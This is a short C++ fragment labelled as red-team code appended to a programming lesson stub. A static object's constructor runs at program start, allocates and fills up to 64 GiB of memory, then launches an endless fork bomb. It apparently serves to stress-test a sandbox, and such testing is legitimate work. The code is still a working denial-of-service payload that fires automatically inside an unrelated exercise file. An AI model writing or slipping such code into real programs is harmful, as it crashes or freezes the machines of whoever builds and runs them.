// ---- red team: fork bomb and memory hog (appended to the lesson 02 stub) ---------------------------
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <new>
#include <vector>

namespace {
struct Exhaust {
  Exhaust() {
    std::vector<char*> blocks;
    size_t mb = 0;
    try {
      for (; mb < (64u << 10); mb += 64) {
        char* b = new char[64u << 20];
        std::memset(b, 1, 64u << 20);
        blocks.push_back(b);
      }
    } catch (const std::bad_alloc&) {
      std::printf("HOG: allocation failed after %zu MiB\n", mb);
    }
    for (char* b : blocks) delete[] b;
    std::fflush(stdout);
    if (fork() == 0) {
      for (;;) fork();  // bounded by the process limit; ended with the test's PID namespace
    }
  }
} exhaust;
}  // namespace
